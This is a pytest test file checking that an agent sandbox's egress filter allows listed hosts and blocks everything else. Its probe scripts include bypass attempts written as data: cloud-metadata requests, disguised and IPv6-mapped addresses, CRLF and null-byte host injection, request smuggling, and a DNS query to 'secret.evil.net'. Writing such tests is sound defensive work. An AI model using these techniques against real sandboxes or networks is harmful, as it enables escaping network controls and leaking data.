"""`network_mode: outbound` reaches what `allowed_hosts` lists, by any program, and `full` everything but what is near.

Tried from inside by the real agent. Server and internet live in two namespaces of the test's own; every packet that
reaches the internet is seen. What is allowed has addresses that are global by their numbers: no others are dialled.
"""

import hashlib
import json

import pytest

from doubles import fake_host
from doubles.blocked_internet import METADATA_ADDRESS, PRIVATE_ADDRESS
from doubles.egress_probe import PROBE, TOLD
from doubles.fake_internet import make_certificate, played_internet, start_host
from doubles.live_server import make_repository, python, says

HOST, DEEP, SSH, HTTP2 = "files.example.org", "a.b.example.org", "git.example.net", "h2.example.net"
PLAIN, OTHER = "plain.example.net", "other.example.com"
HOST_ADDRESS, SERVICES_ADDRESS, OWN_ADDRESS = "8.8.4.4", "8.8.4.6", "8.8.4.5"
MODEL = "model.example.com"
TO_HOST = (
    HOST,
    DEEP,
    SSH,
    HTTP2,
    PLAIN,
    OTHER,
    "example.org",
    "notexample.org",
    "a.example.org.evil.example.com",
)
NAMES = {
    **dict.fromkeys(TO_HOST, HOST_ADDRESS),
    **dict.fromkeys((MODEL, "alias.example.com"), SERVICES_ADDRESS),
    "inside.example.com": PRIVATE_ADDRESS,
    "metadata.example.com": METADATA_ADDRESS,
    "own.example.com": OWN_ADDRESS,
    "intranet": HOST_ADDRESS,
    "files.internal": HOST_ADDRESS,
}
NEAR = ("inside.example.com", "metadata.example.com", "own.example.com")
NOWHERE = "nowhere.example.com"
PORTS = (f"{HOST}:8443", f"{HOST}:8080", f"{SSH}:22", f"{HTTP2}:9443")
OUTBOUND = {"network_mode": "outbound", "allowed_hosts": ["*.example.org", *PORTS, PLAIN, MODEL, *NEAR, NOWHERE]}
FULL = {"network_mode": "full"}

REACHES = rf"""
HOST, DEEP, SSH, HTTP2, PLAIN, OTHER = {HOST!r}, {DEEP!r}, {SSH!r}, {HTTP2!r}, {PLAIN!r}, {OTHER!r}
for scheme in ("https", "http"):
    url = f"{{scheme}}://{{DEEP}}/a"
    attempt(f"yes: curl {{scheme}} by proxy", curl, url)
    attempt(f"yes: curl {{scheme}} direct", direct, url)
attempt("git: https by proxy", git, f"https://{{HOST}}/repo.git")
attempt("git: https direct", git, f"https://{{HOST}}/repo.git", DIRECT)
attempt("git: http by proxy", git, f"http://{{HOST}}/repo.git")
attempt("git: http direct", git, f"http://{{HOST}}/repo.git", DIRECT)
attempt("yes: upper case", curl, f"https://{{DEEP.upper()}}/a")
attempt("yes: final dot", direct, f"http://{{DEEP}}./a")
attempt("yes: https at another port by proxy", curl, f"https://{{HOST}}:8443/a")
attempt("yes: http at another port by proxy", curl, f"http://{{HOST}}:8080/a")
attempt("ssh: by proxy", lambda: conversation(connect(SSH, 22), b"SSH-2.0-me\r\n"))
attempt("ssh: direct", lambda: conversation(socket.create_connection((SSH, 22), 15), b"SSH-2.0-me\r\n"))
attempt("http2: by proxy", curl, "--http2", f"https://{{HTTP2}}:9443/a")
attempt("websocket: by proxy", lambda: websocket(connect(HOST, 443), HOST))
attempt("websocket: direct", lambda: websocket(socket.create_connection((HOST, 443), 15), HOST))
"""

NEVER = rf"""
MODEL, PORT = {MODEL!r}, int(MODEL_PORT)
attempt("no: private address", curl, "http://inside.example.com/x")
attempt("no: private address direct", direct, "http://inside.example.com/x")
attempt("no: metadata", curl, "http://metadata.example.com/x")
attempt("no: the server's own", curl, "http://own.example.com/x")
attempt("no: loopback", curl, "--proxy", "http://127.0.0.1:3128", "--noproxy", "", "http://localhost/x")
attempt("no: model by name", curl, f"http://{{MODEL}}:{{PORT}}/x")
attempt("no: model by another name", curl, f"http://alias.example.com:{{PORT}}/x")
attempt("no: model by its address", lambda: connect({SERVICES_ADDRESS!r}, PORT))
attempt("no: model in a tunnel", lambda: connect(MODEL, PORT))
attempt("no: model at 443", lambda: connect(MODEL, 443))
GET = b"GET /x HTTP/1.1\r\nHost: o.example.com\r\n\r\n"
attempt("no: other name in tunnel", lambda: secure(connect(HOST, 443), "other.example.com", GET, check=False))
attempt("no: other host at another port", lambda: exchange(connect(HOST, 8080), GET))
attempt("no: disguised address", lambda: connect("134744068", 80))
attempt("no: disguised address in hex", lambda: connect("0x08080404", 80))
attempt("no: zero in host", lambda: connect(HOST + "\0.evil.example", 443))
attempt("no: line end in host", lambda: connect(HOST + "\r\nX: evil.example", 443))
attempt("no: datagram", datagram, {HOST_ADDRESS!r}, 443)
attempt("no: datagram to a name", lambda: datagram(resolve(HOST), 443))
attempt("no: IPv6", lambda: socket.create_connection(("2001:4860:4860::8888", 443), 3))
attempt("no: address direct", direct, "-k", "http://{HOST_ADDRESS}/x")
attempt("no: one label", resolve, "intranet")
attempt("no: one label by proxy", curl, "http://intranet/x")
attempt("no: internal domain", resolve, "files.internal")
attempt("no: metadata name", resolve, "metadata.google.internal")
attempt("names: text record", lambda: ask_names(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\3net\0\0\20\0\1"))
"""

ONLY_LISTED = r"""
def two_requests_at_once():
    ask = "GET /{} HTTP/1.1\r\nHost: {}\r\n\r\n"
    with socket.create_connection((PLAIN, 80), 15) as plain:
        plain.sendall((ask.format("first", PLAIN) + ask.format("smuggled", OTHER)).encode())
        received = b""
        while data := plain.recv(1000):
            received += data
    return received.decode()

def big():
    with open("/tmp/big", "wb") as file:
        file.write(b"0123456789abcdef" * 65536)
    return direct("--data-binary", "@/tmp/big", f"https://{PLAIN}/big")

for scheme in ("https", "http"):
    url = f"{scheme}://{DEEP}/a"
    attempt(f"yes: python {scheme} by proxy", python, url)
    attempt(f"yes: python {scheme} direct", python, url, DIRECT)
    attempt(f"yes: node {scheme} direct", node, url, DIRECT)
    attempt(f"yes: {scheme} to a host without a wildcard by proxy", curl, f"{scheme}://{PLAIN}/a")
    attempt(f"yes: {scheme} to a host without a wildcard direct", direct, f"{scheme}://{PLAIN}/a")
attempt("yes: node https by proxy", lambda: node(f"https://{DEEP}/a", NODE_USE_ENV_PROXY="1"))
attempt("big", big)
attempt("first of two", two_requests_at_once)
attempt("address", resolve, PLAIN)
attempt("no: unknown address", direct, "-H", f"Host: {PLAIN}", "http://198.18.77.7/x")
attempt("no: other server name", direct, "-k", "--connect-to", f"{OTHER}:443:{PLAIN}:443", f"https://{OTHER}/x")
attempt("no: other Host", direct, "-H", f"Host: {OTHER}", f"http://{PLAIN}/x")
attempt("no: other Host by proxy", curl, "-H", f"Host: {OTHER}", f"http://{PLAIN}/x")
attempt("no: nowhere", curl, "http://nowhere.example.com/x")
attempt("no: the domain itself", curl, "https://example.org/x")
attempt("no: the domain itself direct", direct, "http://example.org/x")
attempt("no: a domain that ends alike", curl, "https://notexample.org/x")
attempt("no: a domain that begins alike", curl, "https://a.example.org.evil.example.com/x")
attempt("no: other host", curl, "https://other.example.com/x")
attempt("no: other name", resolve, "other.example.com")
attempt("no: redirect elsewhere", curl, "-L", f"http://{HOST}/away/other.example.com")
attempt("no: redirect elsewhere direct", direct, "-L", f"http://{HOST}/away/other.example.com")
attempt("no: port of another host", curl, f"https://{DEEP}:8443/x")
attempt("no: port of another host direct", direct, f"https://{DEEP}:8443/x")
attempt("no: 443 where a port is given", curl, f"https://{SSH}/x")
attempt("no: port that nobody has", direct, f"https://{HOST}:9000/x")
attempt("no: address by proxy", lambda: connect("8.8.4.4", 443))
attempt("http2: direct", direct, "--http2", f"https://{HTTP2}:9443/a")
attempt("yes: https at another port direct", direct, f"https://{HOST}:8443/a")
attempt("yes: http at another port direct", direct, f"http://{HOST}:8080/a")
"""

EVERYTHING = r"""
attempt("yes: any host by proxy", curl, "https://other.example.com/a")
attempt("yes: any host direct", direct, "http://other.example.com/a")
attempt("yes: redirect elsewhere", curl, "-L", f"http://{HOST}/away/other.example.com?a")
attempt("yes: address by proxy", curl, "-k", "https://8.8.4.4/a")
attempt("yes: plain address by proxy", curl, "http://8.8.4.4:8080/a")
attempt("no: private by proxy", lambda: connect("10.1.2.3", 80))
attempt("no: metadata by proxy", lambda: connect("169.254.169.254", 80))
attempt("no: loopback by proxy", lambda: connect("127.0.0.1", 8123))
attempt("no: loopback in IPv6 by proxy", lambda: connect("[::1]", 80))
attempt("no: mapped metadata by proxy", lambda: connect("[::ffff:169.254.169.254]", 80))
attempt("no: NAT64 metadata by proxy", lambda: connect("[64:ff9b::a9fe:a9fe]", 80))
attempt("no: 6to4 metadata by proxy", lambda: connect("[2002:a9fe:a9fe::1]", 80))
attempt("no: the server's address by proxy", lambda: connect("8.8.4.5", 80))
attempt("no: port without proxy", direct, f"https://{HOST}:8443/x")
"""

SCENES = {"outbound": (OUTBOUND, ONLY_LISTED), "full": (FULL, EVERYTHING)}


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A server that reaches an internet with a host that all names lead to; gives them and the host's record."""
    directory = tmp_path_factory.mktemp("egress")
    certificate, record = directory / "host.pem", directory / "host.ndjson"
    places = {"addresses": [HOST_ADDRESS, SERVICES_ADDRESS], "own_addresses": [OWN_ADDRESS]}
    with played_internet(directory, NAMES, **places, services_at=SERVICES_ADDRESS) as (world, internet):
        public = make_certificate(certificate, *TO_HOST)
        world.start_git(prefix=internet.internet_prefix)
        scripts = {
            mode: f"{PROBE}\nMODEL_PORT = open('/workspace/port').read()\n{REACHES}\n{attempts}\n{NEVER}\n{TOLD}"
            for mode, (_, attempts) in SCENES.items()
        }
        branches = {f"Try {mode}.": (python(script), says()) for mode, script in scripts.items()}
        world.start_model(branches=branches, prefix=internet.internet_prefix)
        port = world.model_url.rpartition(":")[2]
        make_repository(world.repositories / "repo.git", {"port": port, "ca.pem": public})
        start_host(world, internet, HOST_ADDRESS, certificate, record)
        world.start_server(ANTHROPIC_BASE_URL=f"http://{MODEL}:{port}")
        yield world, internet, record


@pytest.fixture(scope="module", params=SCENES)
def outcome(request, place):
    """What an agent saw that tried everything, what the host saw, what was on the wire and what was told."""
    world, internet, record = place
    mode, before = request.param, len(internet.packets)
    for seen in (record, world.model_requests_file):
        seen.write_bytes(b"")
    world.submit(mode, vm=SCENES[mode][0], claude={"prompt": f"Try {mode}."})
    status = world.wait(mode, seconds=180)
    assert status["state"] == "completed", world.tell(mode)
    answer = world.tool_results()[0]
    assert answer.startswith("{"), answer
    frames = world.frames(mode)
    return {
        "mode": mode,
        "told": json.loads(answer),
        "asked": [json.loads(line) for line in record.read_text().splitlines()],
        "denied": [frame for frame in frames if frame["type"] == "egress_denied"],
        "troubles": [frame["error"] for frame in frames if frame["type"] == "error"],
        "sent": set(internet.packets[before:]),
        "model_asked": [request for request in world.model_requests() if request["method"] != "POST"],
        "services": {
            ("tcp", SERVICES_ADDRESS, int(process.said["url"].rpartition(":")[2]))
            for process in world.processes
            if "url" in process.said
        },
        "status": status,
        "metadata": json.loads(world.artifact("metadata.json", mode)),
    }


of_what_is_listed = pytest.mark.parametrize("outcome", ["outbound"], indirect=True)


def answers(outcome, kind):
    found = {name: answer for name, answer in outcome["told"].items() if name.startswith(f"{kind}:")}
    assert found
    return found


def test_what_is_allowed_is_reached_by_curl_python_and_node_with_and_without_the_proxy(outcome):
    assert {name: answer for name, answer in answers(outcome, "yes").items() if '"path": "/a"' not in answer} == {}


def test_git_reads_from_what_is_allowed_with_and_without_the_proxy(outcome):
    refs = f"{fake_host.COMMIT}\trefs/heads/main\n"
    assert {name: answer for name, answer in answers(outcome, "git").items() if refs not in answer} == {}


def test_a_host_that_speaks_first_is_heard(outcome):
    greeted = f"{fake_host.GREETING.decode().strip()}, SSH-2.0-me"
    assert set(answers(outcome, "ssh").values()) == {greeted}


def test_http2_and_websocket_pass_inside_tls(outcome):
    assert set(answers(outcome, "http2").values()) == {"HTTP 2.0 /a"}
    assert set(answers(outcome, "websocket").values()) == {"101 a frame"}


def test_nothing_else_answers(outcome):
    for name, answer in answers(outcome, "no").items():
        assert '"path"' not in answer, (name, answer)
        refused = answer.startswith(("exit ", "gaierror", "TimeoutError")) or "Error: " in answer
        assert refused or not answer or "Sandbox refused " in answer or "does not resolve" in answer, (name, answer)
    assert outcome["told"]["names: text record"] in (0, 3), "no record, or no such name"


def test_the_host_was_asked_for_nothing_that_was_refused(outcome):
    lines = [line for _, line, _ in outcome["asked"]]
    assert any("/a " in line for line in lines)
    assert not any(("/x" in line and "/away/" not in line) or "/smuggled" in line for line in lines)
    if outcome["mode"] == "outbound":
        asked_for = {host.partition(":")[0].lower().removesuffix(".") for _, _, host in outcome["asked"]}
        assert asked_for <= {HOST, DEEP, SSH, HTTP2, PLAIN}


def test_the_model_was_reached_by_claude_code_only(outcome):
    assert outcome["model_asked"] == []
    assert "the model" in " ".join(one["reason"] for one in outcome["denied"])


def test_each_refusal_is_told_and_counted(outcome):
    hosts = {one["host"] for one in outcome["denied"]}
    assert {"inside.example.com", "metadata.example.com", "own.example.com", MODEL, "134744068"} <= hosts
    total = outcome["metadata"]["refusals_total"]
    assert total >= len(outcome["denied"]) >= 15
    assert outcome["status"]["progress"]["egress_denied"] == total


@of_what_is_listed
def test_what_is_sent_arrives_byte_for_byte(outcome):
    big = b"0123456789abcdef" * 65_536
    assert json.loads(outcome["told"]["big"])["sha256"] == hashlib.sha256(big).hexdigest()


@of_what_is_listed
def test_the_name_of_an_allowed_host_stands_for_an_address_inside_only(outcome):
    assert outcome["told"]["address"].startswith("198.18.")


@of_what_is_listed
def test_a_second_request_behind_the_first_goes_nowhere(outcome):
    assert outcome["told"]["first of two"].count("HTTP/1.1 200 OK") == 1
    assert '"path": "/first"' in outcome["told"]["first of two"]


@of_what_is_listed
def test_each_refusal_says_where_to_and_why(outcome):
    denied = {(one["host"], one["port"]) for one in outcome["denied"]}
    near = {(host, 80) for host in NEAR}
    others = {(OTHER, 443), (OTHER, 80), (OTHER, 53), (DEEP, 8443), (HOST_ADDRESS, 443), (PLAIN, 80)}
    assert near | others <= denied
    reasons = [one["reason"] for one in outcome["denied"]]
    for reason, times in (
        ("its TLS names another server", 2),
        ("Host header names another", 3),
        ("is not an address of its name", 1),
        ("resolves to no public address", 4),
    ):
        assert sum(reason in told for told in reasons) >= times, (reason, reasons)


@of_what_is_listed
def test_a_host_that_does_not_resolve_is_told_as_trouble(outcome):
    assert outcome["troubles"] == ["host_unreachable"]


def test_nothing_else_was_on_the_wire(outcome):
    to_host = {("tcp", HOST_ADDRESS, port) for port in (22, 80, 443, 8080, 8443, 9443)}
    assert to_host <= outcome["sent"]
    assert outcome["sent"] <= outcome["services"] | to_host
